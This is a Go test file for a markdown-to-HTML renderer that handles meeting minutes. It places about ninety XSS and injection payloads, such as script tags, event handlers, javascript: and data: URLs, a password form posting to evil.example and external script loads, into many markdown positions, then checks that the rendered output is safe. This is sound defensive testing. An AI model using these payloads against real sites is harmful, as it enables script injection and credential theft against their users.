package markdown_test

import (
	"strings"
	"testing"

	"simpul/hooks/markdown"
)

// hostile are ways to smuggle a script, a form, a foreign image or a deceiving link into minutes.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script`,
	`<img src=x onerror=alert(1)>`,
	`<img/src="x"/onerror=alert(1)//`,
	`<image href=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><script href="data:,alert(1)"/></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="//evil.example/x.swf">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="//evil.example/x.css">`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<style>@import '//evil.example/x.css';</style>`,
	`<div style="position:fixed;inset:0;background:url(//evil.example/p.gif)">x</div>`,
	`<p id="content" name="content" class="button">x</p>`,
	`<form action="https://evil.example/"><input name=password><button>Masuk</button></form>`,
	`<input type="text" autofocus onfocus=alert(1)>`,
	`<input type="checkbox" onclick=alert(1) aria-label="Setuju">`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="https://ok.example" onmouseover=alert(1) target=_blank>x</a>`,
	`<a href="https://ok.example" style="position:fixed;inset:0">x</a>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<title></title><script>alert(1)</script>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><script>alert(1)</script>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`</p></div></main><script>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`'onmouseover='alert(1)`,
	`" onmouseover="alert(1)" x="`,
	"` onmouseover=alert(1) `",
	`javascript:alert(1)`,
	`JaVaScRiPt:alert(1)`,
	` javascript:alert(1)`,
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	"\x01javascript:alert(1)",
	`javascript&colon;alert(1)`,
	`&#106;avascript:alert(1)`,
	`&#x6A;&#x61;vascript:alert(1)`,
	`javascript://ok.example/%0Aalert(1)`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
	`file:///etc/passwd`,
	`blob:https://ok.example/1`,
	`intent://scan/#Intent;scheme=zxing;end`,
	`feed:javascript:alert(1)`,
	`view-source:javascript:alert(1)`,
	`//evil.example/x`,
	`/\evil.example/x`,
	`\\evil.example\x`,
	`https://kemensos.go.id@evil.example/`,
	`https:evil.example`,
	`http:///evil.example`,
	`https://[::1`,
	`%6A%61vascript:alert(1)`,
	"\x00<script>alert(1)</script>",
	"<\x00script>alert(1)</script>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\xff\xfe<script>alert(1)</script>",
	`＜script＞alert(1)＜/script＞`,
	`{{.}}{{template "layout"}}`,
	`[x]: javascript:alert(1)`,
	`[x](javascript:alert(1))`,
	`[x](<javascript:alert(1)> "onclick")`,
	`[x](https://ok.example "\" onmouseover=\"alert(1)")`,
	`![x](https://evil.example/pixel.gif)`,
	`![x"onerror=alert(1)](x)`,
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
}

// places are where in a text a payload may stand.
var places = map[string]string{
	"alone":                 "%s",
	"in a paragraph":        "Rapat dibuka. %s Selesai.",
	"as a link address":     "[notulen](%s)",
	"as a bracketed link":   "[notulen](<%s>)",
	"as a link title":       "[notulen](https://ok.example \"%s\")",
	"as link words":         "[%s](https://ok.example)",
	"as an image":           "![foto](%s)",
	"as image words":        "![%s](https://ok.example/a.png)",
	"as a reference":        "[notulen][r]\n\n[r]: %s\n",
	"as an automatic link":  "<%s>",
	"after www":             "www.ok.example/%s",
	"in a heading":          "## %s",
	"in a list":             "- %s\n- lagi",
	"in a task":             "- [ ] @Dinas Sosial: %s (10/12/2026)",
	"in a quote":            "> %s",
	"in a table":            "| a | b |\n|---|---|\n| %s | 2 |",
	"in a table's heading":  "| %s | b |\n|:-:|---|\n| 1 | 2 |",
	"in code":               "`%s`",
	"in a block of code":    "```%s\n%s\n```",
	"in indented code":      "    %s",
	"in emphasis":           "**%s** _%s_ ~~%s~~",
	"in a block of HTML":    "<div>\n%s\n</div>",
	"behind a backslash":    "\\%s",
	"in an open bracket":    "[%s",
	"in an open tag":        "<a href=\"%s",
	"in an unclosed marker": "**_~~`%s",
}

func TestNoPayloadSurvivesAnywhere(t *testing.T) {
	for place, pattern := range places {
		for _, payload := range hostile {
			rendered, err := markdown.HTML(strings.ReplaceAll(pattern, "%s", payload))
			if err != nil {
				t.Errorf("%s, %q: %v", place, payload, err)
			}
			if found := faults(rendered); len(found) > 0 {
				t.Errorf("%s, %q:\n%v\nin %s", place, payload, found, rendered)
			}
		}
	}
}

func TestTheCheckItselfSeesWhatIsWrong(t *testing.T) {
	wrong := []string{
		`<script>x</script>`, `<p onclick="x">a</p>`, `<p id="a">a</p>`, `<a href="https://ok.example">x</a>`,
		`<a href="javascript:x" rel="nofollow noreferrer">x</a>`, `<a href="/x" rel="nofollow noreferrer">x</a>`,
		`<a href="https://a@b/" rel="nofollow noreferrer">x</a>`, `<!-- x -->`, `<p>a`, `</p>`, `<p><em>a</p></em>`,
		`<input type="text">`, `<input type="checkbox" aria-label="☐">`, `<h1>x</h1>`, `<img src="x">`,
		`<input type="checkbox" disabled="" checked="" aria-label="☐">`,
	}
	for _, html := range wrong {
		if len(faults(html)) == 0 {
			t.Errorf("%s passes as safe", html)
		}
	}
}

func TestHTMLTypedIsShownAsTyped(t *testing.T) {
	cases := map[string]string{
		"Rapat <b>penting</b>":     "<p>Rapat &lt;b&gt;penting&lt;/b&gt;</p>\n",
		"<script>x</script>":       "<pre>&lt;script&gt;x&lt;/script&gt;</pre>\n",
		"<div>\n\n**a**\n\n</div>": "<pre>&lt;div&gt;\n</pre>\n<p><strong>a</strong></p>\n<pre>&lt;/div&gt;</pre>\n",
		"1 < 2 & 3 > 2":            "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n",
		"a <!-- b --> c":           "<p>a &lt;!-- b --&gt; c</p>\n",
	}
	for typed, want := range cases {
		if got, err := markdown.HTML(typed); err != nil || got != want {
			t.Errorf("HTML(%q) = %q, %v, want %q", typed, got, err, want)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, payload := range hostile[:12] {
		f.Add(payload)
	}
	f.Add("- [ ] @Puskesmas Tambakaji: jadwal home visit (10/12/2026)\n\n| a | b |\n|---|:-:|\n| 1 | 2 |")
	f.Add("# a\n\n1. b\n   > c\n\n[d](https://e.f \"g\") ![h](i) <j> `k` www.l.m **n** ~~o~~")
	f.Fuzz(func(t *testing.T, source string) {
		rendered, err := markdown.HTML(source)
		if err != nil && rendered != "" {
			t.Errorf("HTML gives %q beside an error", rendered)
		}
		if found := faults(rendered); len(found) > 0 {
			t.Errorf("%v in %s", found, rendered)
		}
		if len(rendered) > markdown.MaxRendered {
			t.Errorf("%d bytes, more than MaxRendered", len(rendered))
		}
	})
}
